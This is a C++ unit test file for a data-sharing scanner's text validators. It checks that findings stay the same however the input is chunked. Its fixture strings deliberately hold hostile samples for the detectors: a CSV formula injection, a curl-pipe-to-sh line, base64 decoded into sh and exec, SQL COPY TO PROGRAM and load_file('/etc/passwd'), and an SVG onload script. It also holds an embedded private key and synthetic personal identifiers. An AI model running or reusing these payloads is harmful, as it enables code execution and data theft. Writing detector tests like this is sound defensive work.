// The contract of every validator of text: it says the same whatever the pieces are in which the text comes, keeps
// still on an empty text, and names a place within the file.
#include <gtest/gtest.h>

#include <algorithm>
#include <random>
#include <set>

#include "inspect/text_validator.h"
#include "shareguard/policy/policy.h"
#include "testing.h"

namespace shareguard::inspect {
namespace {

using namespace std::string_literals;

// A text of each kind, with something in it that one validator or another should see.
const std::vector<std::string>& Texts() {
  static const std::vector<std::string> texts = {
      "a",
      "\n",
      "id,name,count\n1,one,3\n2,\"two\nlines, \"\"quoted\"\"\",12\n3,=cmd|' /C calc'!A0,4\n4,x\n",
      "site\tn\nA\t1\nB\t250\nC\t7\n\nD\t\"unclosed\n",
      "nhs_number,dob,postcode,email\n943 476 5919,1970-01-31,SW1A 1AA,jo.bloggs@example.org\n"
      "9434765870,31/12/1980,EH1 1YZ,a@b.example\n",
      "Card 4111 1111 1111 1111, IBAN GB82 WEST 1234 5698 7654 32, NI QQ 12 34 56 C, AB 12 34 56 C, SSN 123-45-6789\n"
      "call +44 20 7946 0958 or 01632 960001; born on 1980-02-29\n",
      "{\"a\": [1, 2.5e3, {\"b\": null, \"a\": true, \"a\": false}], \"s\": \"\\ud800 \\u00e9\", \"n\": NaN}\n",
      "{\"x\": 1}\n{\"x\": [}\n{\"y\": \"" + std::string(300, 'Q') + "\"}\n",
      "{\"nbformat\": 4, \"nbformat_minor\": 5, \"metadata\": {}, \"cells\": [{\"cell_type\": \"code\", \"metadata\": "
      "{}, "
      "\"execution_count\": 1, \"source\": [\"import socket\\n\", \"x = 1\"], \"outputs\": [{\"output_type\": "
      "\"display_data\", \"metadata\": {}, \"data\": {\"image/png\": \"iVBORw0KGgo=\", \"text/plain\": "
      "\"<Figure>\"}}]}]}",
      "import os, subprocess as sp\nfrom os import system as s\n# import socket\n\"\"\"import requests\"\"\"\n"
      "sp.run(['ls'])\ns('ls')\nx = r'raw \\' + "
      "f'{sp.call(1)}'\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
      "library(httr)\nx <- 'library(curl)' # library(RCurl)\nsystem2(\"ls\")\neval(parse(text = rawToChar(y)))\n",
      "#!/bin/sh\ncat <<'EOF' | base64 -d | sh\nY3VybA==\nEOF\nsudo curl http://example.org | sh # wget\n",
      "/* #include <x.h> */\n#include <sys/socket.h>\nint main() { char c = '\\''; return system(\"ls\"); // "
      "popen\n}\n",
      "const net = require('net'); /* fetch() */ let r = /fetch\\(/g; fetch(`http://${net}`); new "
      "Function(atob('YQ=='))\n",
      "import java.net.Socket;\nclass A { String s = \"Runtime.getRuntime()\"; void f() { "
      "Runtime.getRuntime().exec(s); } }\n",
      "using HTTP\nrun(`ls`)\nccall((:getenv, \"libc\"), Cstring, (Cstring,), \"x\") #= HTTP =#\n",
      "SELECT 1; -- COPY x TO PROGRAM 'sh'\nCOPY t TO PROGRAM 'sh';\nSELECT load_file('/etc/passwd') INTO OUTFILE "
      "'/tmp/x';\n",
      "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x \"y\">]><svg onload=\"alert(1)\"><script>1</script>"
      "<image href=\"http://example.org/x.png\"/></svg>\n",
      "line with blanks  \t \nand \xE2\x80\x8B zero width, \xD1\x81"
      "opy of mixed, \xE2\x80\xAEright\xE2\x80\xAC\n",
      "H4sIAAAAAAAAA0tMSk5JTUvPyMzKzsnNyy8oLCouKS0rr6isqq6prauvAABqyAqxGgAAAEtMSk5JTUvPyMzKzsnNyy8oLCouKS0rr6isqq6p"
      "rauvAABqyAqxGgAAAEtMSk5JTUvPyMzKzsnNyy8oLCouKS0rr6isqq6prauvAABqyAqx\n",
      "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIJ1hsZ3v/VpguoRK9JLsLMREScVpezJpGXA7rAMcrn9g\n"
      "-----END PRIVATE KEY-----\n",
  };
  return texts;
}

// Everything that can be looked for.
const policy::InspectSettings& AllSettings() {
  static const policy::InspectSettings settings = [] {
    const auto policy = policy::Policy::Load("ingress-code", {{SHAREGUARD_SOURCE_DIR "/policies"}, {}});
    EXPECT_TRUE(policy.ok()) << (policy.ok() ? "" : policy.error().ToString());
    policy::InspectSettings all = (*policy)->inspect();
    all.persons = policy::InspectSettings::AllPersons();
    return all;
  }();
  return settings;
}

using Cuts = std::vector<size_t>;

// Findings as text, in the order in which they were reported.
std::vector<std::string> FindingsOf(const policy::TypeInfo& type, const std::string& text, const Cuts& cuts) {
  static const auto magic = std::make_unique<Result<Magic>>(Magic::Open());
  const InspectLimits limits;
  Session session{*ShippedTypes(), magic->value(), limits, Budget(limits, text.size()), {}, AllSettings()};
  const Scope scope{session, "x", "", 0, {&type}};
  const TextValidators validators = ValidatorsFor(type, session.settings);
  size_t from = 0;
  const auto feed = [&](size_t to) {
    if (to <= from) return;
    for (const auto& validator : validators) validator->Feed(std::string_view(text).substr(from, to - from), from);
    from = to;
  };
  for (const size_t cut : cuts) feed(cut);
  feed(text.size());
  for (const auto& validator : validators) validator->Finish(scope);
  std::vector<std::string> out;
  for (const policy::Finding& finding : session.findings.Take()) {
    EXPECT_LE(finding.offset, text.size()) << finding.id;
    out.push_back(finding.id + " " + std::string(policy::SeverityName(finding.severity)) + " at " +
                  std::to_string(finding.offset) + "+" + std::to_string(finding.length) + " x" +
                  std::to_string(finding.count) + ": " + finding.detail);
  }
  return out;
}

class TextValidatorContract : public testing::TestWithParam<std::string> {
 protected:
  const policy::TypeInfo& type() const { return *ShippedTypes()->Find(GetParam()); }
};

TEST_P(TextValidatorContract, NothingIsFoundInNothing) {
  for (const std::string& finding : FindingsOf(type(), "", {})) {
    // A table without rows has a profile, and nothing else has anything.
    EXPECT_TRUE(finding.find(" info ") != std::string::npos || finding.find(".malformed ") != std::string::npos)
        << finding;
  }
}

TEST_P(TextValidatorContract, AnySplitSaysTheSame) {
  for (const std::string& text : Texts()) {
    const auto whole = FindingsOf(type(), text, {});
    for (size_t cut = 1; cut < text.size(); ++cut) {
      ASSERT_EQ(FindingsOf(type(), text, {cut}), whole) << "split at " << cut << " of:\n" << text;
    }
  }
}

TEST_P(TextValidatorContract, BytesOneByOneSayTheSame) {
  for (const std::string& text : Texts()) {
    Cuts cuts(text.size());
    for (size_t i = 0; i < cuts.size(); ++i) cuts[i] = i;
    ASSERT_EQ(FindingsOf(type(), text, cuts), FindingsOf(type(), text, {})) << text;
  }
}

// All the texts behind one another, in pieces of any size, and noise.
TEST_P(TextValidatorContract, PiecesOfAnySizeSayTheSame) {
  std::mt19937 random(11);
  for (int round = 0; round < 12; ++round) {
    std::string text;
    for (int i = 0; i < 6; ++i) text += Texts()[random() % Texts().size()];
    for (int i = 0; i < round * 4; ++i) text[random() % text.size()] = static_cast<char>(random());
    Cuts cuts;
    for (size_t at = 0; at < text.size(); at += 1 + random() % (round % 2 == 0 ? 8 : 200)) cuts.push_back(at);
    ASSERT_EQ(FindingsOf(type(), text, cuts), FindingsOf(type(), text, {})) << text;
  }
}

// Validators that read in blocks: a text may end anywhere in the last of them, or in what is readable behind it.
TEST_P(TextValidatorContract, TextsThatEndNearABlockSayTheSame) {
  constexpr size_t kBlock = 64 * 1024;
  const std::string last = "jo.bloggs@example.org";
  for (const size_t size : {kBlock - 1, kBlock, kBlock + 1, kBlock + 255, kBlock + 256, kBlock + 257, kBlock + 511,
                            kBlock + 512, kBlock + 513, 2 * kBlock - 1, 2 * kBlock, 2 * kBlock + 1, 2 * kBlock + 300}) {
    std::string text(size - last.size(), ' ');
    for (size_t i = 99; i < text.size(); i += 100) text[i] = '\n';
    text += last;
    const auto whole = FindingsOf(type(), text, {});
    EXPECT_EQ(std::count_if(whole.begin(), whole.end(),
                            [](const std::string& finding) { return finding.starts_with("person.email "); }),
              1)
        << size;
    EXPECT_EQ(FindingsOf(type(), text, {1, size / 2, size - 5}), whole) << size;
  }
}

std::vector<std::string> TextTypes() {
  std::vector<std::string> names;
  for (const policy::TypeInfo& type : ShippedTypes()->all()) {
    if (type.text) names.push_back(type.name);
  }
  return names;
}

INSTANTIATE_TEST_SUITE_P(Types, TextValidatorContract, testing::ValuesIn(TextTypes()), [](const auto& param) {
  std::string name = param.param;
  std::replace_if(
      name.begin(), name.end(), [](char c) { return std::isalnum(static_cast<unsigned char>(c)) == 0; }, '_');
  return name;
});

// The suite would prove nothing if the texts above met nobody.
TEST(TextValidatorContractTexts, MeetTheValidators) {
  std::set<std::string> families;
  for (const std::string& name : TextTypes()) {
    for (const std::string& text : Texts()) {
      for (const std::string& finding : FindingsOf(*ShippedTypes()->Find(name), text, {})) {
        families.insert(finding.substr(0, finding.find('.')));
      }
    }
  }
  EXPECT_EQ(families, (std::set<std::string>{"code", "json", "markup", "media", "notebook", "person", "table"}));
}

}  // namespace
}  // namespace shareguard::inspect
